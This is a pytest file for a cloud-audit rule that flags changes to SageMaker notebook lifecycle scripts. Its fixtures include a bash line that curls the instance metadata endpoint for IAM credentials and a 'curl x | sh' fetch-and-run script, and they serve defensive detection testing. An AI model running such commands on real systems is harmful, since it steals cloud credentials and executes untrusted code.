from base64 import b64encode

import pytest

from trailguard import CloudTrailEvent, Severity, Violation
from trailguard.rules.compute.notebook_start_changed import notebook_start_changed
from trailguard.testing import assert_complies, assert_violates, cloudtrail_event

STEALS = "#!/bin/bash\ncurl http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def call(name: str, script: str | None = None, *, key: str = "onStart") -> CloudTrailEvent:
    request: dict[str, object] = {"notebookInstanceLifecycleConfigName": "setup"}
    if script is not None:
        request[key] = [{"content": b64encode(script.encode()).decode()}]
    return cloudtrail_event(f"sagemaker:{name}", request=request)


UPDATED = call("UpdateNotebookInstanceLifecycleConfig", "pip install shop")
CREATED = call("CreateNotebookInstanceLifecycleConfig", "pip install shop")
CREATED_TO_STEAL = call("CreateNotebookInstanceLifecycleConfig", STEALS, key="onCreate")
CREATED_TO_DECODE = call("CreateNotebookInstanceLifecycleConfig", "base64 -d certificate")
STUDIO = cloudtrail_event(
    "sagemaker:CreateStudioLifecycleConfig",
    request={
        "studioLifecycleConfigName": "setup",
        "studioLifecycleConfigContent": b64encode(b"curl x | sh").decode(),
    },
)
UNNAMED = cloudtrail_event("sagemaker:UpdateNotebookInstanceLifecycleConfig")


def test_names_the_configuration() -> None:
    assert notebook_start_changed(UPDATED) == [
        Violation(
            "user alice called sagemaker:UpdateNotebookInstanceLifecycleConfig on setup", resource="setup"
        )
    ]
    assert_violates(
        notebook_start_changed,
        UNNAMED,
        reason="user alice called sagemaker:UpdateNotebookInstanceLifecycleConfig on one that is not named",
        resource=None,
        severity=Severity.MEDIUM,
    )


def test_a_new_script_is_low() -> None:
    """Unless an intruder might have written it."""
    assert_violates(notebook_start_changed, CREATED, severity=Severity.LOW)
    assert_violates(notebook_start_changed, CREATED_TO_DECODE, severity=Severity.LOW)
    assert_violates(notebook_start_changed, CREATED_TO_STEAL, severity=Severity.MEDIUM)
    assert_violates(notebook_start_changed, STUDIO, resource="setup", severity=Severity.MEDIUM)


def test_the_evidence_has_what_is_suspicious() -> None:
    (violation,) = notebook_start_changed(CREATED_TO_STEAL)

    assert violation.evidence == {"suspicious": "iam/security-credentials"}


@pytest.mark.parametrize("content", ["HIDDEN_DUE_TO_SECURITY_REASONS", "/w==", "é", 1, None])
def test_what_is_no_script(content: object) -> None:
    event = cloudtrail_event(
        "sagemaker:CreateNotebookInstanceLifecycleConfig", request={"onStart": [{"content": content}]}
    )

    assert_violates(notebook_start_changed, event, severity=Severity.LOW)


def test_a_failed_call_did_nothing() -> None:
    event = cloudtrail_event("sagemaker:UpdateNotebookInstanceLifecycleConfig", error="AccessDenied")

    assert_complies(notebook_start_changed, event)
